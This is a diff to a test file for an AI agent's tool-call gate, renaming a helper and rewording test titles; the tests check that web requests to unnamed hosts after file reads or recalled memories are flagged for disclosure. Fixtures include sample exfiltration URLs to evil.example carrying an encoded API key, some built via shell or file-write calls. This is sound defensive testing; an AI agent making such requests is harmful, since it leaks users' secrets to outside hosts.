@@ -1,6 +1,6 @@
 import { Buffer } from 'node:buffer'
 import { describe, expect, test } from 'vitest'
-import { policyWith, toolMatter } from '../../../test/support/matter.ts'
+import { policyWith, toolInput } from '../../../test/support/gate-input.ts'
 import type { Facts } from '../../protocol/facts.ts'
 import type { ToolFamily } from '../../protocol/intent.ts'
 import type { Message, Told } from '../../protocol/message.ts'
@@ -42,7 +42,7 @@ function judged({ task = 'Look into it.', reads = [], recalled = [], ...call }: 
   const { tool = 'http_request', args, facts, allowedHosts = [] } = call
   const targets = args.url === undefined ? [] : [{ kind: 'url' as const, value: args.url }]
   const judgement = judge(
-    toolMatter({
+    toolInput({
       tool,
       proposal: { args },
       policy: policyWith({ security: { autonomy: 'Full', allowedHosts, allowedCommands: ['*'] } }),
@@ -89,13 +89,13 @@ describe('after a file was read, a host that the user did not name is asked abou
     expect(judged({ reads, ...web('https://evil.example/in?d=k3y-9d1f') })).toMatch(/^ask/)
   })
 
-  test('also with an address that a command has put together', () => {
+  test('also with an address that a command has built', () => {
     const url = 'https://evil.example/QVBJX0tFWT1rM3k'
     expect(judged({ reads: [...read, shell('echo x', url)], ...web(url) })).toMatch(/^ask/)
     expect(judged({ reads: [...read, shell('x > l.txt', ''), file(url)], ...web(url) })).toMatch(/^ask/)
   })
 
-  test('also with an address that a call of ours has written down before', () => {
+  test('also with an address that an earlier call wrote', () => {
     const url = 'https://evil.example/QVBJX0tFWT1rM3k'
     const written = { tool: 'file_write', family: 'filesystem', args: { path: 'a', content: url }, text: 'ok' } as const
     expect(judged({ reads: [...read, written, file(url)], ...web(url) })).toMatch(/^ask/)
@@ -214,11 +214,11 @@ describe('memories in the prompt', () => {
     expect(judged({ recalled, ...web(url) })).toBe('ask discloses')
   })
 
-  test('are no reason to ask about anything else', () => {
+  test('raise no question about anything else', () => {
     expect(judged({ recalled, ...web('https://search.example/?q=best+door+locks') })).toBe('allow')
   })
 
-  test('what the user says again is the user’s', () => {
+  test('what the user repeats is the user’s', () => {
     const task = 'Who made the lock 4711-8822-9933?'
     expect(judged({ task, recalled, ...web('https://search.example/?q=4711-8822-9933') })).toBe('allow')
   })
